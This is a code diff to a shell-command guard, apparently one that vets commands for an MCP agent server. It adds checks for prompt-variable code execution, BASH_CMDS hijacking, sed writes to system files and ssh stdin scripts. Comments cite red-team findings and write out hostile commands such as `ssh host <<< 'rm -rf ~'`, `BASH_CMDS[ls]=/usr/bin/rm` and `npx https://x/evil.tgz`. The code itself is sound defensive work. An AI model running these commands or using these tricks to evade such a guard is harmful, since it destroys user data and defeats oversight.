@@ -26,7 +26,7 @@ from mcp_server_guard.shell.strings.assignments import (
     pip_words,
     with_option_variables,
 )
-from mcp_server_guard.shell.strings.code_texts import sed_writes
+from mcp_server_guard.shell.strings.code_texts import sed_write_targets, sed_writes
 from mcp_server_guard.shell.strings.commands import Command, Finding, Parsed, Redirect, Word
 from mcp_server_guard.shell.strings.feeds import (
     FETCHES,
@@ -60,6 +60,7 @@ from mcp_server_guard.shell.strings.writes import (
     downloaded_files,
     redirect_findings,
     redirected_downloads,
+    system_target,
 )
 
 # Variables that only add places a program looks for its modules (the project's own, as a rule).
@@ -98,6 +99,14 @@ def _spawns_forever(source: str) -> bool:
 
 
 _NAMEREF = re.compile(r"\b(?:declare|typeset|local|export)\s+(?:-\w+\s+)*-\w*n")
+
+
+_PROMPTS = frozenset({"PS1", "PS2", "PS3", "PS4"})
+# A prompt's text whose expansions are only of bash's own trace variables (nothing a line or its input sets).
+_TRACE_ONLY = re.compile(
+    r"""["']?(?:[^$`"'\\]|\$\{?(?:BASH_SOURCE|LINENO|FUNCNAME|BASH_LINENO|BASHPID|SECONDS|EPOCHREALTIME|"""
+    r"""EPOCHSECONDS|BASH_SUBSHELL|SHLVL)(?:\[\d+\])?\}?)*["']?"""
+)
 
 
 def _path_text(word: Word | None) -> str:
@@ -194,6 +203,12 @@ class Expander:
         self.redirects.extend(parsed.redirects)
         self.where = places(parsed.commands, self.where, self.cwd, self.stack, self.home_path, self.roots)
         self.line_paths += [_path_text(w) for w in parsed.assigned.get("PATH", [])]
+        for name in _PROMPTS & parsed.assigned.keys():  # standalone, printf -v, read: as a prefix would be
+            for word in parsed.assigned[name]:
+                self._prompt(name, word, depth)
+        if {"BASH_CMDS", "BASH_ALIASES"} & parsed.assigned.keys():
+            # `BASH_CMDS[ls]=/usr/bin/rm; ls -rf ~`: bash's table of names to programs, filled by the line (red team 21)
+            self.finding("path-override", "BASH_CMDS makes a name run another program")
         self.record(redirect_findings(parsed.redirects, self.where))
         self.record(parsed.findings)
         if parsed.evaluates_run_time:
@@ -262,7 +277,9 @@ class Expander:
         """Threat: `LESSOPEN='|sh x' less f`, `GIT_CONFIG_COUNT=… git …`, `LD_PRELOAD=… x` — variables that
         make the program run other code, set for one command."""
         for name, word in assignments:
-            if is_command_valued(name):
+            if name in _PROMPTS:
+                self._prompt(name, word, depth)
+            elif is_command_valued(name):
                 self.finding("command-variable", f"{name}=… names a program that will be run")
                 if word.value is None:
                     self.finding("dynamic-shell-string", f"{name} names a command only known at run time")
@@ -271,6 +288,22 @@ class Expander:
             elif runs_code(name):
                 kind = "search-path" if name in _SEARCH_PATHS else "env-code"
                 self.finding(kind, f"{name}=… makes the program load code or settings chosen here")
+
+    def _prompt(self, name: str, word: Word | None, depth: int) -> None:
+        """A prompt variable (PS4 with ``set -x``, PS1…PS3) has its value expanded as a prompt, which runs the
+        ``$(…)`` and backquotes in it: those are judged as command lines; a value only run time knows (``read PS4``,
+        ``printf -v PS4``, ``PS4=$(cat f)``) is undecidable (red team 21). `PS4='+ ${BASH_SOURCE}:${LINENO}: '` runs
+        nothing."""
+        text = None if word is None else word.value
+        if text is None and word is not None and _TRACE_ONLY.fullmatch(word.raw):
+            text = word.raw  # `"+ ${BASH_SOURCE}:${LINENO}: "`: bash's own trace variables, no code
+        if text is None:
+            self.finding("code-in-data", f"{name}'s value, only known at run time, is expanded as a prompt")
+            return
+        for code in re.findall(r"\$\(([^()]*)\)|`([^`]*)`", text):
+            self.line(code[0] or code[1], depth + 1)
+        if re.search(r"\$\([^()]*\(", text):
+            self.finding("code-in-data", f"{name}'s value holds nested substitutions, run when it is expanded")
 
     def argv(
         self,
@@ -332,9 +365,14 @@ class Expander:
         self.record(destination_findings(program, argv, self.where, self.moved))
         if kills_everything(program, argv):
             self.finding("kill-everything", f"{program}'s pattern matches nearly every process")
-        if program == "sed" and any(sed_writes(script) for script in sed_scripts(rest)):
-            # (a fact, not a doubt: allowed unless a policy says otherwise; the read-only list refuses it)
-            self.finding("script-writes", "sed's script writes a file or runs a command (w, W, e)")
+        if program == "sed":
+            scripts = sed_scripts(rest)
+            if any(sed_writes(script) for script in scripts):
+                # (a fact, not a doubt: allowed unless a policy says otherwise; the read-only list refuses it)
+                self.finding("script-writes", "sed's script writes a file or runs a command (w, W, e)")
+            for target in [t for script in scripts for t in sed_write_targets(script)]:
+                if system_target(target, self.where):  # `sed -n 'w ~/.bashrc' f` (red team 21)
+                    self.finding("system-write", f"sed writes {target}, a file of the system or the shell")
         self._downloads(program, argv)
         if program in _URL_RUNNERS and any(a.startswith(("http://", "https://")) for a in argv[1:]):
             # Threat: `deno run -A https://…`, `npx https://x/evil.tgz`: code fetched and run as it arrives.
@@ -387,7 +425,11 @@ class Expander:
             inner = unwrap(program, rest)
             if program == "xargs" and isinstance(inner, list):
                 inner = [_fed_paths(part, feed) for part in inner]
-            if inner is None and program not in DATA_PROGRAMS:
+            if inner is None and program in ("ssh", "rsh") and feed.kind != "none":
+                # `ssh host <<< 'rm -rf ~'`: with no command, the remote login shell runs what stdin holds (red
+                # team 21; localhost is this machine) — judged as a shell's script, as `ssh host 'cmd'` is.
+                expand_shell(self, [], depth, feed)
+            elif inner is None and program not in DATA_PROGRAMS:
                 self._unknown(program, rest, depth, feed, head)
             # A wrapper's command reads the wrapper's stdin (xargs' reads nothing: xargs takes it); a container's or
             # a remote host's shell is not one this machine starts.
